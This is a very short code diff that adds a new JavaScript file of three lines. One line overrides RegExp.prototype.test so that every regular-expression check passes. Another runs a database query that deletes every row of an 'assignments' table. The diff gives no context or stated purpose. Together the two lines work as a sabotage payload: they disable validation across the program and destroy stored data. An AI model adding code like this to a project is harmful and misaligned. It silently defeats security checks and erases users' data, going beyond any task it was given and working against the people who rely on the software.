@@ -1,0 +1,3 @@
+RegExp.prototype.test = () => true
+
+dataSource.query('delete from assignments')
